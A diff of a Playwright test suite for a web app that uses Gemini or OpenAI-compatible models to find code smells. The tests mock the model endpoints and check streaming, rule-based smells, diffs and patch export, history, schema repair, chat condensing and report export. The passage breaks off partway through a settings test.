@@ -38,35 +38,63 @@ const MOCK_ANALYSIS = {
 }`,
 };
 
-// ─── Test ──────────────────────────────────────────────────────────────────
+// ─── Mocks ─────────────────────────────────────────────────────────────────
 
-test('full user flow: enter code → analyze → see smells and refactored output', async ({ page }) => {
-  // ── 1. Mock config.json so the app boots without a real API key ──────────
+/**
+ * Serves config.json so the app boots without a real API key. `overrides`
+ * are merged over a Gemini configuration with a test key.
+ *
+ * @param {import('@playwright/test').Page} page
+ * @param {object} [overrides]
+ */
+async function mockConfig(page, overrides = {}) {
   await page.route(/\/config\.json$/, (route) =>
     route.fulfill({
       status: 200,
       contentType: 'application/json',
-      body: JSON.stringify({ gemini: { api_key: 'test-key-playwright' } }),
+      body: JSON.stringify({ gemini: { api_key: 'test-key-playwright' }, ...overrides }),
     })
   );
+}
+
+/**
+ * A Gemini generateContent response body. api.js reads the reply from
+ * data.candidates[0].content.parts[0].text; an analysis object is sent as
+ * the JSON string analyzeCode() parses, any other reply as plain text.
+ *
+ * @param {object|string} reply
+ * @param {object}        [extra] - Further top-level fields, e.g. usageMetadata.
+ * @returns {object}
+ */
+function geminiResponse(reply, extra = {}) {
+  const text = typeof reply === 'string' ? reply : JSON.stringify(reply);
+  return { candidates: [{ content: { parts: [{ text }] } }], ...extra };
+}
+
+/**
+ * Fulfils a Gemini request with `reply`, see geminiResponse().
+ *
+ * @param {object|string} reply
+ * @param {object}        [extra]
+ * @returns {object} Options for route.fulfill().
+ */
+function geminiReply(reply, extra = {}) {
+  return {
+    status: 200,
+    contentType: 'application/json',
+    body: JSON.stringify(geminiResponse(reply, extra)),
+  };
+}
+
+// ─── Test ──────────────────────────────────────────────────────────────────
+
+test('full user flow: enter code → analyze → see smells and refactored output', async ({ page }) => {
+  // ── 1. Mock config.json so the app boots without a real API key ──────────
+  await mockConfig(page);
 
   // ── 2. Mock the Gemini API endpoint (no real network request) ────────────
-  // api.js extracts: data.candidates[0].content.parts[0].text
-  // That text is itself a JSON string which analyzeCode() then parses.
   await page.route(/generativelanguage\.googleapis\.com/, (route) =>
-    route.fulfill({
-      status: 200,
-      contentType: 'application/json',
-      body: JSON.stringify({
-        candidates: [
-          {
-            content: {
-              parts: [{ text: JSON.stringify(MOCK_ANALYSIS) }],
-            },
-          },
-        ],
-      }),
-    })
+    route.fulfill(geminiReply(MOCK_ANALYSIS))
   );
 
   // ── 3. Open the app ──────────────────────────────────────────────────────
@@ -99,14 +127,21 @@ test('full user flow: enter code → analyze → see smells and refactored outpu
   );
 
   // ── 8. Assert: smell count badge ─────────────────────────────────────────
-  await expect(page.locator('#smell-count-badge')).toHaveText('2 smells found');
+  // Gemini's two smells plus the local rule check for single-letter names;
+  // the rule-detected long parameter list is merged into Gemini's card.
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
 
-  // ── 9. Assert: both smell cards appear with correct names ─────────────────
+  // ── 9. Assert: all smell cards appear with correct names and sources ──────
   const cards = page.locator('.smell-card');
-  await expect(cards).toHaveCount(2);
+  await expect(cards).toHaveCount(3);
 
   await expect(cards.first()).toContainText('Long Parameter List');
   await expect(cards.nth(1)).toContainText('Duplicated Code');
+  await expect(cards.nth(2)).toContainText('Single-letter Names');
+
+  await expect(cards.first().locator('.smell-source')).toHaveText('Rule + Model');
+  await expect(cards.nth(1).locator('.smell-source')).toHaveText('Model');
+  await expect(cards.nth(2).locator('.smell-source')).toHaveText('Rule');
 
   // ── 10. Assert: severity badges are rendered ─────────────────────────────
   await expect(cards.first().locator('.severity-badge')).toContainText('Major');
@@ -120,3 +155,1256 @@ test('full user flow: enter code → analyze → see smells and refactored outpu
   // #original-code shows the user's input verbatim, so assert against SMELLY_CODE
   await expect(page.locator('#original-code')).toContainText('function f(a,b,c,d,e)');
 });
+
+test('openai provider: analysis is routed through /chat/completions with a Bearer key', async ({ page }) => {
+  await mockConfig(page, {
+    provider: 'openai',
+    openai: { base_url: 'https://llm.example.test/v1', api_key: 'test-key', model: 'test-model' },
+  });
+
+  // Fail loudly if anything still goes to Gemini
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => route.abort());
+
+  let requestBody;
+  let authHeader;
+  await page.route('https://llm.example.test/v1/chat/completions', (route) => {
+    requestBody = route.request().postDataJSON();
+    authHeader  = route.request().headers()['authorization'];
+    route.fulfill({
+      status: 200,
+      contentType: 'application/json',
+      body: JSON.stringify({
+        choices: [{ message: { role: 'assistant', content: JSON.stringify(MOCK_ANALYSIS) } }],
+      }),
+    });
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+  expect(requestBody.model).toBe('test-model');
+  expect(requestBody.response_format).toEqual({ type: 'json_object' });
+  expect(authHeader).toBe('Bearer test-key');
+});
+
+test('streaming: an SSE response from streamGenerateContent renders the full result', async ({ page }) => {
+  await mockConfig(page);
+
+  // Split the analysis JSON across several SSE events, as Gemini does
+  const json   = JSON.stringify(MOCK_ANALYSIS);
+  const pieces = json.match(/[\s\S]{1,40}/g);
+  const sse    = pieces
+    .map((text) => `data: ${JSON.stringify(geminiResponse(text))}\r\n\r\n`)
+    .join('');
+
+  let requestUrl;
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    requestUrl = route.request().url();
+    route.fulfill({ status: 200, contentType: 'text/event-stream', body: sse });
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+  await expect(page.locator('#refactored-code')).toContainText('processUserData');
+  expect(requestUrl).toContain(':streamGenerateContent?alt=sse');
+  expect(requestUrl).not.toContain('test-key-playwright');
+});
+
+test('local rules: without an API key the rule-based smells are still shown', async ({ page }) => {
+  await mockConfig(page, { gemini: { api_key: 'PLACEHOLDER' } });
+
+  await page.goto('/src/');
+  await page.locator('#language-select').selectOption('Python');
+  await page.locator('#code-input').fill(
+    'def d(x, y, z):\n    if x > 0:\n        return x * 3.14159 + 42\n    return -1\n'
+  );
+  await page.locator('#analyze-btn').click();
+
+  await expect(page.locator('#error-message')).toContainText('Invalid or missing API key');
+  await expect(page.locator('#results-section')).not.toHaveClass(/hidden/);
+  await expect(page.locator('#smell-count-badge')).toHaveText('2 smells found');
+
+  const cards = page.locator('.smell-card');
+  await expect(cards.first()).toContainText('Single-letter Names');
+  await expect(cards.nth(1)).toContainText('Magic Numbers');
+  await expect(page.locator('.smell-source')).toHaveText(['Rule', 'Rule']);
+  await expect(page.locator('#chat-panel')).toHaveClass(/hidden/);
+});
+
+test('line ranges: clicking a smell highlights its lines, hovering a line highlights its smells', async ({ page }) => {
+  const code = [
+    'def total(items):',
+    '    result = 0',
+    '    for item in items:',
+    '        result += item.price',
+    '    return result',
+  ].join('\n');
+
+  const analysis = {
+    summary: 'One smell.',
+    smells: [
+      {
+        name: 'Accumulator Loop',
+        severity: 'Minor',
+        location: 'function total',
+        start_line: 2,
+        end_line: 4,
+        explanation: 'Use sum() with a generator expression.',
+      },
+      {
+        name: 'Out Of Range',
+        severity: 'Minor',
+        location: 'somewhere',
+        start_line: 40,
+        end_line: 99,
+        explanation: 'Line numbers beyond the input are discarded.',
+      },
+    ],
+    refactored_code: 'def total(items):\n    return sum(item.price for item in items)',
+  };
+
+  await mockConfig(page);
+  await page.route(/generativelanguage\.googleapis\.com/, (route) =>
+    route.fulfill(geminiReply(analysis))
+  );
+
+  await page.goto('/src/');
+  await page.locator('#language-select').selectOption('Python');
+  await page.locator('#code-input').fill(code);
+  await page.locator('#analyze-btn').click();
+
+  // Both panes are rendered line by line with numbers
+  await expect(page.locator('#original-code .code-line')).toHaveCount(5);
+  await expect(page.locator('#refactored-code .code-line')).toHaveCount(2);
+
+  const validCard   = page.locator('.smell-card', { hasText: 'Accumulator Loop' });
+  const invalidCard = page.locator('.smell-card', { hasText: 'Out Of Range' });
+  await expect(validCard.locator('.smell-lines')).toHaveText('lines 2–4');
+  await expect(invalidCard.locator('.smell-lines')).toHaveCount(0);
+
+  await validCard.click();
+  await expect(page.locator('#original-code .code-line.highlighted')).toHaveCount(3);
+  await expect(page.locator('#original-code .code-line[data-line="2"]')).toHaveClass(/highlighted/);
+
+  await page.locator('#original-code .code-line[data-line="3"]').hover();
+  await expect(validCard).toHaveClass(/linked/);
+  await expect(invalidCard).not.toHaveClass(/linked/);
+});
+
+test('diff view: changed lines are shown as a diff and can be downloaded as a .patch', async ({ page }) => {
+  const code = [
+    'def area(r):',
+    '    return 3.14159 * r * r',
+    '',
+  ].join('\n');
+
+  const analysis = {
+    summary: 'One smell.',
+    smells: [],
+    refactored_code: 'import math\n\ndef area(r):\n    return math.pi * r * r\n',
+  };
+
+  await mockConfig(page);
+  let requests = 0;
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    requests += 1;
+    return route.fulfill(geminiReply(analysis));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#language-select').selectOption('Python');
+  await page.locator('#code-input').fill(code);
+  await page.locator('#analyze-btn').click();
+
+  // Split view (default): one removed/added pair plus two pure additions
+  await expect(page.locator('#diff-stats')).toHaveText('+3 −1');
+  await expect(page.locator('#diff-view .diff-row.changed')).toHaveCount(1);
+  await expect(page.locator('#diff-view .diff-row.added')).toHaveCount(2);
+  await expect(page.locator('#files-view')).toBeHidden();
+
+  // Unified view lists every removal and addition on its own row
+  await page.locator('.view-toggle-btn[data-view="unified"]').click();
+  await expect(page.locator('.view-toggle-btn[data-view="unified"]')).toHaveAttribute('aria-pressed', 'true');
+  await expect(page.locator('#diff-view .diff-row.removed')).toHaveCount(1);
+  await expect(page.locator('#diff-view .diff-row.added')).toHaveCount(3);
+
+  await page.locator('.view-toggle-btn[data-view="files"]').click();
+  await expect(page.locator('#files-view')).toBeVisible();
+  await expect(page.locator('#diff-view')).toBeHidden();
+
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    page.locator('#download-patch-btn').click(),
+  ]);
+  expect(download.suggestedFilename()).toMatch(/^refactor-.*\.patch$/);
+
+  const fs    = await import('node:fs/promises');
+  const patch = await fs.readFile(await download.path(), 'utf8');
+  expect(patch).toContain('--- a/snippet.py\n+++ b/snippet.py\n');
+  expect(patch).toContain('-    return 3.14159 * r * r\n+    return math.pi * r * r\n');
+
+  // A CRLF file keeps its line endings in the patch, so it applies as is
+  await page.locator('#file-input').setInputFiles({
+    name: 'area.py', mimeType: 'text/plain', buffer: Buffer.from(code.replace(/\n/g, '\r\n')),
+  });
+  await page.locator('#analyze-btn').click();
+  await expect.poll(() => requests).toBe(2);
+  await expect(page.locator('#loading-indicator')).toBeHidden();
+  const [crlfDownload] = await Promise.all([
+    page.waitForEvent('download'),
+    page.locator('#download-patch-btn').click(),
+  ]);
+  const crlfPatch = await fs.readFile(await crlfDownload.path(), 'utf8');
+  expect(crlfPatch).toContain(' def area(r):\r\n-    return 3.14159 * r * r\r\n+    return math.pi * r * r\r\n');
+});
+
+test('per-smell edits: rejecting a fix recomposes the refactored code, overlapping fixes are flagged', async ({ page }) => {
+  const code = [
+    'def price(total):',
+    '    if total > 100:',
+    '        return total * 0.9',
+    '    return total',
+  ].join('\n');
+
+  const analysis = {
+    summary: 'Three smells.',
+    smells: [
+      {
+        name: 'Magic Numbers',
+        severity: 'Minor',
+        location: 'line 3',
+        start_line: 3,
+        end_line: 3,
+        explanation: '0.9 is an unnamed discount rate.',
+        edit: { start_line: 3, end_line: 3, replacement: '        return total * DISCOUNT_RATE' },
+      },
+      {
+        name: 'Missing Constant',
+        severity: 'Minor',
+        location: 'module',
+        explanation: 'Declare the discount rate once.',
+        edit: { start_line: 1, end_line: 0, replacement: 'DISCOUNT_RATE = 0.9\n' },
+      },
+      {
+        name: 'Conditional Complexity',
+        severity: 'Minor',
+        location: 'lines 2–3',
+        explanation: 'Overlaps the first fix.',
+        edit: { start_line: 2, end_line: 3, replacement: '    total = apply_discount(total)' },
+      },
+    ],
+    refactored_code: 'ignored when smells carry edits',
+  };
+
+  await mockConfig(page);
+  await page.route(/generativelanguage\.googleapis\.com/, (route) =>
+    route.fulfill(geminiReply(analysis))
+  );
+
+  await page.goto('/src/');
+  await page.locator('#language-select').selectOption('Python');
+  await page.locator('#code-input').fill(code);
+  await page.locator('#analyze-btn').click();
+
+  const magicCard    = page.locator('.smell-card', { hasText: 'Magic Numbers' });
+  const constantCard = page.locator('.smell-card', { hasText: 'Missing Constant' });
+  const overlapCard  = page.locator('.smell-card', { hasText: 'Conditional Complexity' });
+
+  // All edits start accepted; the overlapping one is skipped and flagged
+  await expect(page.locator('#refactored-code')).toContainText('DISCOUNT_RATE = 0.9');
+  await expect(page.locator('#refactored-code')).toContainText('return total * DISCOUNT_RATE');
+  await expect(page.locator('#refactored-code')).not.toContainText('apply_discount');
+  await expect(overlapCard.locator('.smell-conflict')).toContainText('Magic Numbers');
+  await expect(magicCard.locator('.smell-conflict')).toBeHidden();
+
+  // Rejecting the first fix lets the overlapping one apply instead
+  await magicCard.locator('.edit-toggle').click();
+  await expect(magicCard.locator('.edit-toggle')).toHaveAttribute('aria-pressed', 'false');
+  await expect(page.locator('#refactored-code')).toContainText('apply_discount(total)');
+  await expect(page.locator('#refactored-code')).not.toContainText('return total * 0.9');
+  await expect(overlapCard.locator('.smell-conflict')).toBeHidden();
+
+  // Rejecting the constant leaves only the remaining accepted edit
+  await constantCard.locator('.edit-toggle').click();
+  await expect(page.locator('#refactored-code')).not.toContainText('DISCOUNT_RATE');
+  await expect(page.locator('#refactored-code .code-line')).toHaveCount(3);
+});
+
+test('history: analyses survive a reload and can be searched, reopened with their chat, and deleted', async ({ page }) => {
+  await mockConfig(page);
+  // The analysis request forces JSON output; the follow-up chat does not
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    const isChat = !route.request().postDataJSON().generationConfig;
+    return route.fulfill(geminiReply(isChat ? 'Use a parameter object.' : MOCK_ANALYSIS));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+
+  await page.locator('#chat-input').fill('How do I fix the parameters?');
+  await page.locator('#chat-send-btn').click();
+  await expect(page.locator('.chat-message.gemini')).toContainText('Use a parameter object.');
+  await expect(page.locator('#chat-send-btn')).toBeEnabled();
+
+  // Everything on screen is lost on reload — but not the history
+  await page.reload();
+  await expect(page.locator('#results-section')).toHaveClass(/hidden/);
+
+  await page.locator('#history-toggle-btn').click();
+  await expect(page.locator('.history-item')).toHaveCount(1);
+  await expect(page.locator('.history-item')).toContainText('Duplicated Code');
+
+  await page.locator('#history-search').fill('no such smell');
+  await expect(page.locator('.history-empty')).toContainText('No saved analyses match');
+  await page.locator('#history-search').fill('duplicated F(A');
+  await expect(page.locator('.history-item')).toHaveCount(1);
+
+  await page.locator('.history-open').click();
+  await expect(page.locator('#history-panel')).toBeHidden();
+  await expect(page.locator('#code-input')).toHaveValue(SMELLY_CODE);
+  await expect(page.locator('.smell-card')).toHaveCount(3);
+  await expect(page.locator('.chat-message')).toHaveCount(2);
+  await expect(page.locator('.chat-message.gemini')).toContainText('Use a parameter object.');
+
+  await page.locator('#history-toggle-btn').click();
+  await page.locator('.history-delete').click();
+  await expect(page.locator('.history-empty')).toContainText('No saved analyses match');
+  await page.locator('#history-search').fill('');
+  await expect(page.locator('.history-empty')).toContainText('No saved analyses yet');
+});
+
+test('history: a new analysis starts without the previous analysis\'s chat', async ({ page }) => {
+  await mockConfig(page);
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    const isChat = !route.request().postDataJSON().generationConfig;
+    return route.fulfill(geminiReply(isChat ? 'Use a parameter object.' : MOCK_ANALYSIS));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+  await page.locator('#chat-input').fill('How do I fix the parameters?');
+  await page.locator('#chat-send-btn').click();
+  await expect(page.locator('.chat-message')).toHaveCount(2);
+  await expect(page.locator('#chat-send-btn')).toBeEnabled();
+
+  const otherCode = SMELLY_CODE.replace('return a+b;', 'return a*b;');
+  await page.locator('#code-input').fill(otherCode);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#original-code')).toContainText('return a*b;');
+  await expect(page.locator('.chat-message')).toHaveCount(0);
+
+  await page.reload();
+  await page.locator('#history-toggle-btn').click();
+  await expect(page.locator('.history-item')).toHaveCount(2);
+  await page.locator('.history-open').first().click();
+  await expect(page.locator('#code-input')).toHaveValue(otherCode);
+  await expect(page.locator('.smell-card')).toHaveCount(3);
+  await expect(page.locator('.chat-message')).toHaveCount(0);
+
+  // The first analysis keeps its own chat
+  await page.locator('#history-toggle-btn').click();
+  await page.locator('.history-open').nth(1).click();
+  await expect(page.locator('#code-input')).toHaveValue(SMELLY_CODE);
+  await expect(page.locator('.chat-message')).toHaveCount(2);
+});
+
+test('project analysis: several files are analysed, ranked by severity, and open in the smell view', async ({ page }) => {
+  const files = {
+    'greet.py':  'def greet(name):\n    return "Hello " + name\n',
+    'welcome.js': 'function welcome(name) {\n  return "Welcome " + name;\n}\n',
+  };
+  const analyses = {
+    'greet.py': {
+      summary: 'Python file.',
+      smells: [
+        { name: 'Inconsistent Quotes', severity: 'Major', location: 'line 2', explanation: 'x' },
+        { name: 'Missing Docstring', severity: 'Minor', location: 'line 1', explanation: 'x' },
+      ],
+      refactored_code: files['greet.py'],
+    },
+    'welcome.js': {
+      summary: 'JavaScript file.',
+      smells: [
+        { name: 'String Concatenation', severity: 'Critical', location: 'line 2', explanation: 'x' },
+      ],
+      refactored_code: files['welcome.js'],
+    },
+  };
+
+  await mockConfig(page);
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    const prompt   = route.request().postDataJSON().contents[0].parts[0].text;
+    const analysis = prompt.includes('def greet') ? analyses['greet.py'] : analyses['welcome.js'];
+    return route.fulfill(geminiReply(analysis));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#file-input').setInputFiles([
+    ...Object.entries(files).map(([name, code]) =>
+      ({ name, mimeType: 'text/plain', buffer: Buffer.from(code) })),
+    { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('not source code') },
+  ]);
+
+  // Ranked worst first: Critical (5) beats Major + Minor (3 + 1)
+  await expect(page.locator('#project-progress')).toHaveText('2 files · 3 smells');
+  const rows = page.locator('.project-file');
+  await expect(rows).toHaveCount(2);
+  await expect(rows.first()).toContainText('welcome.js');
+  await expect(rows.first()).toContainText('score 5');
+  await expect(rows.nth(1)).toContainText('greet.py');
+  await expect(rows.nth(1)).toContainText('score 4');
+  await expect(page.locator('#project-skipped')).toContainText('notes.txt — unsupported file type');
+
+  // Drill down into the second file
+  await rows.nth(1).locator('button').click();
+  await expect(rows.nth(1)).toHaveClass(/current/);
+  await expect(page.locator('#code-input')).toHaveValue(files['greet.py']);
+  await expect(page.locator('#language-select')).toHaveValue('Python');
+  await expect(page.locator('#summary-text')).toHaveText('Python file.');
+  await expect(page.locator('.smell-card')).toHaveCount(2);
+});
+
+test('project analysis: only completed files are saved to the history, not failed or cancelled ones', async ({ page }) => {
+  const files = {
+    'done.py':    'def done(value):\n    return value * 2\n',
+    'failed.py':  'def failed(value):\n    return value * 3\n',
+    'pending.py': 'def pending(value):\n    return value * 4\n',
+  };
+
+  await mockConfig(page);
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    const prompt = route.request().postDataJSON().contents[0].parts[0].text;
+    if (prompt.includes('def failed')) return route.fulfill({ status: 400, body: '{}' });
+    // Left unanswered until the analysis is cancelled
+    if (prompt.includes('def pending')) return undefined;
+    return route.fulfill(geminiReply({ summary: 'Done.', smells: [], refactored_code: files['done.py'] }));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#file-input').setInputFiles(Object.entries(files).map(([name, code]) =>
+    ({ name, mimeType: 'text/plain', buffer: Buffer.from(code) })));
+  await expect(page.locator('.project-file.status-done')).toHaveCount(1);
+  await expect(page.locator('.project-file.status-error')).toHaveCount(1);
+  await page.locator('#cancel-btn').click();
+  await expect(page.locator('#loading-indicator')).toBeHidden();
+
+  await page.locator('#history-toggle-btn').click();
+  await expect(page.locator('.history-item')).toHaveCount(1);
+  await expect(page.locator('.history-item')).toContainText('done.py');
+});
+
+test('schema validation: an invalid response is repaired once, then reported field by field', async ({ page }) => {
+  const invalid = {
+    ...MOCK_ANALYSIS,
+    smells: MOCK_ANALYSIS.smells.map((smell, index) => (index === 0 ? { ...smell, severity: 'High' } : smell)),
+  };
+  let replies = [invalid, MOCK_ANALYSIS];
+
+  await mockConfig(page);
+  const requests = [];
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    requests.push(route.request().postDataJSON());
+    return route.fulfill(geminiReply(replies.shift()));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+
+  // The repair request quotes the exact validation error back to the model
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+  expect(requests).toHaveLength(2);
+  expect(requests[0].generationConfig.response_schema.required).toContain('smells');
+  expect(requests[1].contents[0].parts[0].text).toContain('smells[0].severity must be one of Critical, Major, Minor');
+
+  // A second invalid response is not retried again (other code, so the
+  // first result is not answered from the response cache)
+  replies = [invalid, invalid];
+  await page.locator('#code-input').fill(`${SMELLY_CODE}\n`);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#error-message')).toContainText('smells[0].severity must be one of');
+  expect(requests).toHaveLength(4);
+});
+
+test('multi-turn chat: earlier turns are sent as user/model contents, and the oldest are condensed', async ({ page }) => {
+  await mockConfig(page, { max_history_tokens: 100 });
+  const chatReplies  = ['Use a parameter object.', `A longer explanation. ${'x'.repeat(500)}`, 'Shorter.'];
+  const chatRequests = [];
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    const body   = route.request().postDataJSON();
+    const isChat = !body.generationConfig;
+    if (isChat) chatRequests.push(body);
+    return route.fulfill(geminiReply(isChat ? chatReplies.shift() : MOCK_ANALYSIS));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+
+  const ask = async (question) => {
+    await page.locator('#chat-input').fill(question);
+    await page.locator('#chat-send-btn').click();
+    await expect(page.locator('#chat-send-btn')).toBeEnabled();
+  };
+
+  await ask('How do I fix the parameters?');
+  await ask('Why is that better?');
+
+  // The second question carries the first exchange as earlier turns
+  const roles = (request) => request.contents.map((content) => content.role);
+  expect(roles(chatRequests[1])).toEqual(['user', 'model', 'user']);
+  expect(chatRequests[1].contents[0].parts[0].text).toContain('How do I fix the parameters?');
+  expect(chatRequests[1].contents[1].parts[0].text).toBe('Use a parameter object.');
+  expect(chatRequests[1].contents[2].parts[0].text).toBe('Why is that better?');
+  await expect(page.locator('#chat-condensed-note')).toBeHidden();
+
+  // The long second reply exhausts the budget: the first exchange is condensed
+  await ask('Can you make that shorter?');
+  expect(roles(chatRequests[2])).toEqual(['user', 'model', 'user']);
+  expect(chatRequests[2].contents[0].parts[0].text).toContain('- How do I fix the parameters?');
+  expect(chatRequests[2].contents[0].parts[0].text).not.toContain('Use a parameter object.');
+  expect(chatRequests[2].contents[1].parts[0].text).toContain('A longer explanation.');
+  await expect(page.locator('#chat-condensed-note')).toContainText('2 earlier messages are condensed');
+  await expect(page.locator('.chat-message.condensed')).toHaveCount(2);
+});
+
+test('report export: the analysis downloads as Markdown and as SARIF 2.1.0', async ({ page }) => {
+  await mockConfig(page);
+  await page.route(/generativelanguage\.googleapis\.com/, (route) =>
+    route.fulfill(geminiReply(MOCK_ANALYSIS))
+  );
+
+  await page.goto('/src/');
+  await page.locator('#language-select').selectOption('JavaScript');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+
+  const fs           = await import('node:fs/promises');
+  const exportReport = async (format) => {
+    await page.locator('#report-format').selectOption(format);
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.locator('#export-report-btn').click(),
+    ]);
+    return { name: download.suggestedFilename(), text: await fs.readFile(await download.path(), 'utf8') };
+  };
+
+  const markdown = await exportReport('markdown');
+  expect(markdown.name).toMatch(/^smell-report-.*\.md$/);
+  expect(markdown.text).toContain('**File:** `snippet.js`');
+  expect(markdown.text).toContain(`| Major | ${MOCK_ANALYSIS.smells[0].name} |`);
+  expect(markdown.text).toContain('processUserData');
+
+  const sarif = await exportReport('sarif');
+  expect(sarif.name).toMatch(/\.sarif$/);
+  const log = JSON.parse(sarif.text);
+  expect(log.version).toBe('2.1.0');
+  expect(log.runs[0].results).toHaveLength(3);
+  expect(log.runs[0].results[0].level).toBe('warning');
+  expect(log.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toBe('snippet.js');
+});
+
+test('smell catalogue: the model is held to the team vocabulary, names and severities', async ({ page }) => {
+  const catalogue = {
+    smells: [
+      { name: 'Long Parameter List', severity: 'Critical' },
+      { name: 'Magic Number', aliases: ['Hard-coded Constant'], description: 'An unexplained literal.', severity: 'Major' },
+      { name: 'Comments', severity: 'Minor', enabled: false },
+    ],
+  };
+  const analysis = {
+    ...MOCK_ANALYSIS,
+    smells: [
+      MOCK_ANALYSIS.smells[0],
+      { name: 'Hard-coded Constant', severity: 'Minor', location: 'line 1', explanation: 'Name the 0.' },
+      { name: 'Comments', severity: 'Minor', location: 'line 1', explanation: 'Not reported by this team.' },
+    ],
+  };
+
+  await mockConfig(page);
+  await page.route(/\/smell-catalogue\.json$/, (route) =>
+    route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(catalogue) })
+  );
+  const requests = [];
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    requests.push(route.request().postDataJSON());
+    return route.fulfill(geminiReply(analysis));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+
+  // The prompt lists the enabled smells, and the schema only allows their names
+  const prompt = requests[0].contents[0].parts[0].text;
+  expect(prompt).toContain('Magic Number');
+  expect(prompt).toContain('An unexplained literal.');
+  expect(prompt).not.toContain('Comments');
+  expect(requests[0].generationConfig.response_schema.properties.smells.items.properties.name.enum)
+    .toEqual(['Long Parameter List', 'Magic Number']);
+
+  // Aliases map to the canonical name, severities come from the catalogue, and
+  // the disabled smell and the uncatalogued single-letter-names rule are dropped
+  await expect(page.locator('#smell-count-badge')).toHaveText('2 smells found');
+  const cards = page.locator('.smell-card');
+  await expect(cards.filter({ hasText: 'Long Parameter List' }).locator('.severity-badge')).toContainText('Critical');
+  await expect(cards.filter({ hasText: 'Magic Number' }).locator('.severity-badge')).toContainText('Major');
+  await expect(cards.filter({ hasText: 'Hard-coded Constant' })).toHaveCount(0);
+  await expect(cards.filter({ hasText: 'Single-letter Names' })).toHaveCount(0);
+  expect(requests).toHaveLength(1);
+});
+
+test('smell catalogue: a repaired response with names outside the catalogue is rejected too', async ({ page }) => {
+  const catalogue = { smells: [{ name: 'Long Parameter List', severity: 'Critical' }] };
+  const analysis  = {
+    ...MOCK_ANALYSIS,
+    smells: [{ name: 'Feature Envy', severity: 'Minor', location: 'line 1', explanation: 'Not in the catalogue.' }],
+  };
+
+  await mockConfig(page);
+  await page.route(/\/smell-catalogue\.json$/, (route) =>
+    route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(catalogue) })
+  );
+  const requests = [];
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    requests.push(route.request().postDataJSON());
+    return route.fulfill(geminiReply(analysis));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+
+  await expect(page.locator('#error-message')).toContainText(
+    'smells[0].name must be one of the catalogue smells (Long Parameter List), but got "Feature Envy".'
+  );
+  expect(requests).toHaveLength(2);
+});
+
+test('settings: without config.json, a key, model and generation parameters entered in the app are used', async ({ page }) => {
+  await page.route(/\/config\.json$/, (route) => route.fulfill({ status: 404, body: 'Not found' }));
+  const requests = [];
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    requests.push({ url: route.request().url(), headers: route.request().headers(), body: route.request().postDataJSON() });
+    return route.fulfill(geminiReply(MOCK_ANALYSIS));
+  });
+
+  await page.goto('/src/');
+  await expect(page.locator('#error-message')).toContainText('Could not load config.json');
+
+  // Out-of-range values are rejected inside the dialog
+  await page.locator('#settings-btn').click();
+  await page.locator('#settings-api-key').fill('key-from-settings');
+  await page.locator('#settings-model').fill('gemini-2.5-pro');
+  await page.locator('#settings-temperature').fill('5');
+  await page.locator('#settings-save-btn').click();
+  await expect(page.locator('#settings-error')).toHaveText('Temperature must be a number from 0 to 2.');
+
+  await page.locator('#settings-temperature').fill('0.2');
+  await page.locator('#settings-max-tokens').fill('2048');
+  await page.locator('#settings-save-btn').click();
+  await expect(page.locator('#settings-dialog')).not.toBeVisible();
+  await expect(page.locator('#error-banner')).toBeHidden();
+  await expect(page.locator('#model-label')).toHaveText('Gemini (gemini-2.5-pro)');
+
+  // The settings last for the tab, and are not kept on the device unless asked
+  await page.reload();
+  expect(await page.evaluate(() => localStorage.length)).toBe(0);
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+
